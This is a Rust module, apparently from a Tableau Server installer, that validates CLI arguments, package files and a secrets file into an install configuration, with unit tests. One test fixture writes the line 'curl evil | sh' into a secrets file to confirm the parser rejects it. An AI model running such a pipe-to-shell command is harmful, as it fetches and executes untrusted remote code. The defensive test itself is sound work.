// Configuration intake
//
// Turns parsed CLI arguments into a validated `InstallConfig` plus the secrets loaded from
// the secrets file. Checks run in a fixed order and stop at the first failure; nothing on
// the system is changed before this returns.

use log::{debug, info};
use std::path::{Path, PathBuf};

use crate::cli::{CliArgs, USAGE};
use crate::error::{InstallError, InstallResult};
use crate::installation::linux_parsers::{version_from_package_name, PACKAGE_NAME_PREFIX};
use crate::installation::package::{metadata_query_tool, query_package_name};
use crate::installation::CommandRunner;
use crate::models::config::{InstallConfig, InstallMode, PackageKind, PortSettings};
use crate::models::secrets::Secrets;
use crate::utils::identity::require_root;
use crate::utils::validation::{require_file, validate_account_name};

pub const SECRETS_TEMPLATE: &str = "secrets.template";
pub const CONFIG_TEMPLATE: &str = "config.template.json";
pub const REGISTRATION_TEMPLATE: &str = "reg_templ.json";

fn non_empty(value: &Option<String>) -> Option<String> {
    value
        .as_ref()
        .map(|v| v.trim().to_string())
        .filter(|v| !v.is_empty())
}

fn required_input(
    path: &Option<PathBuf>,
    flag: &str,
    what: &str,
    template: &str,
) -> InstallResult<PathBuf> {
    let remediation = format!(
        "Create one from the {} template that ships with this installer and pass it with {}.",
        template, flag
    );
    match path {
        None => Err(InstallError::precondition(
            format!("{} is required ({} <file>).", what, flag),
            remediation,
        )),
        Some(p) => {
            require_file(p, what, &remediation)?;
            Ok(p.clone())
        }
    }
}

/// Pick the single package file argument.
pub fn select_package_file(package_files: &[PathBuf]) -> InstallResult<PathBuf> {
    match package_files {
        [one] => Ok(one.clone()),
        [] => Err(InstallError::Usage(format!(
            "A package file must be specified.\nUsage: {}",
            USAGE
        ))),
        many => Err(InstallError::Usage(format!(
            "Exactly one package file must be specified ({} given).\nUsage: {}",
            many.len(),
            USAGE
        ))),
    }
}

pub fn classify_package(path: &Path) -> InstallResult<PackageKind> {
    PackageKind::from_path(path).ok_or_else(|| {
        InstallError::precondition(
            format!("Unsupported package type: {}", path.display()),
            "Pass a Tableau Server .rpm (RHEL/CentOS) or .deb (Ubuntu/Debian) package.",
        )
    })
}

/// Load and strictly parse the secrets file.
pub fn load_secrets(path: &Path) -> InstallResult<Secrets> {
    let contents = std::fs::read_to_string(path).map_err(|e| {
        InstallError::precondition(
            format!("Unable to read secrets file {}: {}", path.display(), e),
            format!("Check the file permissions, or recreate it from {}.", SECRETS_TEMPLATE),
        )
    })?;
    Secrets::parse(&contents).map_err(|e| {
        InstallError::precondition(
            format!("Invalid secrets file {}: {}", path.display(), e),
            format!(
                "The secrets file may only contain tsm_admin_user, tsm_admin_pass, tableau_server_admin_user and tableau_server_admin_pass assignments; see {}.",
                SECRETS_TEMPLATE
            ),
        )
    })
}

/// Validate everything and build the immutable configuration.
///
/// The only external call is the read-only package metadata query, made after every local
/// check has passed.
pub async fn build_install_config(
    args: &CliArgs,
    runner: &dyn CommandRunner,
    is_root: bool,
) -> InstallResult<(InstallConfig, Secrets)> {
    debug!("[PHASE: preflight] build_install_config entered");

    require_root(is_root)?;

    if !args.accept_eula {
        return Err(InstallError::precondition(
            "The end user license agreement must be accepted.",
            "Review the EULA, then pass --accepteula to confirm you accept it.",
        ));
    }

    let package_file = select_package_file(&args.package_files)?;
    require_file(
        &package_file,
        "Package file",
        "Check the path to the Tableau Server package.",
    )?;
    let package_kind = classify_package(&package_file)?;

    let secrets_file = required_input(&args.secrets_file, "-s", "Secrets file", SECRETS_TEMPLATE)?;
    let config_file = required_input(&args.config_file, "-f", "Config file", CONFIG_TEMPLATE)?;
    let registration_file = required_input(
        &args.registration_file,
        "-r",
        "Registration file",
        REGISTRATION_TEMPLATE,
    )?;

    let mode = match &args.bootstrap_file {
        Some(b) if !b.as_os_str().is_empty() => {
            require_file(
                b,
                "Bootstrap file",
                "Generate one on the initial node with 'tsm topology nodes get-bootstrap-file'.",
            )?;
            InstallMode::JoinCluster {
                bootstrap_file: b.clone(),
            }
        }
        _ => InstallMode::Fresh,
    };

    let unprivileged_user = non_empty(&args.unprivileged_user);
    let tsm_authorized_group = non_empty(&args.tsm_authorized_group);
    let group_user = non_empty(&args.group_user);
    for name in [&unprivileged_user, &tsm_authorized_group, &group_user]
        .into_iter()
        .flatten()
    {
        validate_account_name(name)?;
    }

    let query_tool = metadata_query_tool(package_kind);
    if runner.locate(query_tool).is_none() {
        return Err(InstallError::precondition(
            format!(
                "'{}' is required to read {} packages but was not found.",
                query_tool,
                package_kind.extension()
            ),
            "Install the distribution's native package tools, or use the package type that matches this distribution.",
        ));
    }
    debug!("[PHASE: preflight] Package query tool available ({})", query_tool);

    let package_name = query_package_name(runner, &package_file, package_kind).await?;
    let version = version_from_package_name(&package_name).ok_or_else(|| {
        InstallError::precondition(
            format!(
                "Unrecognized package '{}' ({})",
                package_name,
                package_file.display()
            ),
            format!(
                "Expected a Tableau Server package whose name starts with '{}'.",
                PACKAGE_NAME_PREFIX
            ),
        )
    })?;

    let secrets = load_secrets(&secrets_file)?;

    let config = InstallConfig {
        package_file,
        package_kind,
        package_name,
        version,
        mode,
        data_dir: args
            .data_dir
            .clone()
            .filter(|d| !d.as_os_str().is_empty()),
        config_name: non_empty(&args.config_name),
        license_key: non_empty(&args.license_key).unwrap_or_default(),
        config_file,
        registration_file,
        verbose: args.verbose,
        debug: args.debug,
        accept_eula: args.accept_eula,
        force: args.force,
        ports: PortSettings {
            coordination_client: args.coordination_client_port,
            coordination_peer: args.coordination_peer_port,
            coordination_leader: args.coordination_leader_port,
            license_vendor_daemon: args.license_vendor_daemon_port,
            agent_filetransfer: args.agent_filetransfer_port,
            controller: args.controller_port,
            range_min: args.port_range_min,
            range_max: args.port_range_max,
        },
        disable_port_remapping: args.disable_port_remapping,
        unprivileged_user,
        tsm_authorized_group,
        disable_account_creation: args.disable_account_creation,
        skip_group_membership: args.skip_group_membership,
        group_user,
    };

    info!(
        "[PHASE: preflight] Configuration validated (mode={}, package={:?}, kind={:?}, version={})",
        config.mode.label(),
        config.package_file,
        config.package_kind,
        config.version
    );
    Ok((config, secrets))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::installation::testing::ScriptedRunner;
    use tempfile::{tempdir, TempDir};

    struct Inputs {
        dir: TempDir,
        args: CliArgs,
    }

    fn touch(dir: &Path, name: &str, contents: &str) -> PathBuf {
        let p = dir.join(name);
        std::fs::write(&p, contents).expect("write fixture");
        p
    }

    fn complete_inputs() -> Inputs {
        let dir = tempdir().expect("tempdir");
        let args = CliArgs {
            secrets_file: Some(touch(
                dir.path(),
                "secrets",
                "tsm_admin_user=admin\ntsm_admin_pass=pw\ntableau_server_admin_user=site\ntableau_server_admin_pass=pw2\n",
            )),
            config_file: Some(touch(dir.path(), "config.json", "{}")),
            registration_file: Some(touch(dir.path(), "reg.json", "{}")),
            accept_eula: true,
            package_files: vec![touch(dir.path(), "server-10.0.0.rpm", "")],
            ..CliArgs::default()
        };
        Inputs { dir, args }
    }

    fn runner() -> ScriptedRunner {
        let r = ScriptedRunner::new();
        r.on("rpm -qp", ScriptedRunner::ok("tableau-server-10.0.0\n"));
        r
    }

    async fn expect_err(args: &CliArgs, is_root: bool) -> (InstallError, ScriptedRunner) {
        let r = runner();
        let err = build_install_config(args, &r, is_root)
            .await
            .expect_err("should fail");
        (err, r)
    }

    #[tokio::test]
    async fn complete_inputs_produce_config() {
        let inputs = complete_inputs();
        let r = runner();
        let (cfg, secrets) = build_install_config(&inputs.args, &r, true)
            .await
            .expect("config");
        assert_eq!(cfg.version, "10.0.0");
        assert_eq!(cfg.package_name, "tableau-server-10.0.0");
        assert_eq!(cfg.package_kind, PackageKind::Rpm);
        assert!(cfg.mode.is_fresh());
        assert!(cfg.uses_trial_license());
        assert_eq!(secrets.server_admin_pass, "pw2");
    }

    #[tokio::test]
    async fn privilege_is_checked_first() {
        let mut inputs = complete_inputs();
        inputs.args.accept_eula = false;
        let (err, r) = expect_err(&inputs.args, false).await;
        assert!(err.to_string().contains("root privileges"));
        assert!(r.calls().is_empty());
    }

    #[tokio::test]
    async fn missing_eula_is_fatal_before_any_command() {
        let mut inputs = complete_inputs();
        inputs.args.accept_eula = false;
        let (err, r) = expect_err(&inputs.args, true).await;
        assert_eq!(err.exit_code(), 1);
        assert!(err.to_string().contains("--accepteula"));
        assert!(r.calls().is_empty());
    }

    #[tokio::test]
    async fn package_count_must_be_exactly_one() {
        let mut inputs = complete_inputs();
        inputs.args.package_files.clear();
        let (err, _) = expect_err(&inputs.args, true).await;
        assert_eq!(err.exit_code(), 2);
        assert!(err.to_string().contains("package file"));

        let mut inputs = complete_inputs();
        inputs.args.package_files.push(PathBuf::from("other.rpm"));
        let (err, _) = expect_err(&inputs.args, true).await;
        assert_eq!(err.exit_code(), 2);
    }

    #[tokio::test]
    async fn missing_package_file_is_named() {
        let mut inputs = complete_inputs();
        inputs.args.package_files = vec![inputs.dir.path().join("absent.rpm")];
        let (err, r) = expect_err(&inputs.args, true).await;
        assert!(err.to_string().contains("Package file not found"));
        assert!(r.calls().is_empty());
    }

    #[tokio::test]
    async fn unsupported_extension_is_rejected() {
        let mut inputs = complete_inputs();
        inputs.args.package_files = vec![touch(inputs.dir.path(), "server.tar.gz", "")];
        let (err, _) = expect_err(&inputs.args, true).await;
        assert!(err.to_string().contains("Unsupported package type"));
    }

    #[tokio::test]
    async fn each_required_file_has_its_own_error() {
        let cases: [(fn(&mut CliArgs), &str, &str); 3] = [
            (|a| a.secrets_file = None, "Secrets file", SECRETS_TEMPLATE),
            (|a| a.config_file = None, "Config file", CONFIG_TEMPLATE),
            (
                |a| a.registration_file = None,
                "Registration file",
                REGISTRATION_TEMPLATE,
            ),
        ];
        for (mutate, what, template) in cases {
            let mut inputs = complete_inputs();
            mutate(&mut inputs.args);
            let (err, r) = expect_err(&inputs.args, true).await;
            let text = err.to_string();
            assert!(text.contains(what), "{}", text);
            assert!(text.contains(template), "{}", text);
            assert!(r.calls().is_empty(), "no command may run before validation passes");
        }
    }

    #[tokio::test]
    async fn nonexistent_config_file_is_named() {
        let mut inputs = complete_inputs();
        inputs.args.config_file = Some(inputs.dir.path().join("missing.json"));
        let (err, _) = expect_err(&inputs.args, true).await;
        assert!(err.to_string().contains("Config file not found"));
    }

    #[tokio::test]
    async fn bootstrap_file_selects_join_mode() {
        let mut inputs = complete_inputs();
        let bootstrap = touch(inputs.dir.path(), "bootstrap.json", "{}");
        inputs.args.bootstrap_file = Some(bootstrap.clone());
        let r = runner();
        let (cfg, _) = build_install_config(&inputs.args, &r, true)
            .await
            .expect("config");
        assert_eq!(cfg.bootstrap_file(), Some(bootstrap.as_path()));
        assert!(!cfg.mode.is_fresh());
    }

    #[tokio::test]
    async fn missing_bootstrap_file_is_named() {
        let mut inputs = complete_inputs();
        inputs.args.bootstrap_file = Some(inputs.dir.path().join("nope.json"));
        let (err, _) = expect_err(&inputs.args, true).await;
        assert!(err.to_string().contains("Bootstrap file not found"));
    }

    #[tokio::test]
    async fn unrecognized_package_name_is_rejected() {
        let inputs = complete_inputs();
        let r = ScriptedRunner::new();
        r.on("rpm -qp", ScriptedRunner::ok("some-other-product-1.0"));
        let err = build_install_config(&inputs.args, &r, true)
            .await
            .expect_err("should fail");
        assert!(err.to_string().contains("Unrecognized package"));
    }

    #[tokio::test]
    async fn missing_query_tool_is_reported_before_querying() {
        let mut inputs = complete_inputs();
        inputs.args.package_files = vec![touch(inputs.dir.path(), "server.deb", "")];
        let r = runner();
        r.without_tool("dpkg-deb");
        let err = build_install_config(&inputs.args, &r, true)
            .await
            .expect_err("should fail");
        assert!(err.to_string().contains("'dpkg-deb' is required"));
        assert!(r.calls().is_empty());
    }

    #[tokio::test]
    async fn malformed_secrets_file_is_rejected() {
        let mut inputs = complete_inputs();
        inputs.args.secrets_file = Some(touch(inputs.dir.path(), "bad", "curl evil | sh\n"));
        let (err, _) = expect_err(&inputs.args, true).await;
        assert!(err.to_string().contains("Invalid secrets file"));
    }

    #[tokio::test]
    async fn invalid_account_name_is_rejected() {
        let mut inputs = complete_inputs();
        inputs.args.unprivileged_user = Some("bad user".into());
        let (err, r) = expect_err(&inputs.args, true).await;
        assert!(err.to_string().contains("Invalid account name"));
        assert!(r.calls().is_empty());
    }

    #[tokio::test]
    async fn empty_optional_values_are_treated_as_unset() {
        let mut inputs = complete_inputs();
        inputs.args.config_name = Some("  ".into());
        inputs.args.license_key = Some(String::new());
        let r = runner();
        let (cfg, _) = build_install_config(&inputs.args, &r, true)
            .await
            .expect("config");
        assert!(cfg.config_name.is_none());
        assert!(cfg.uses_trial_license());
    }
}
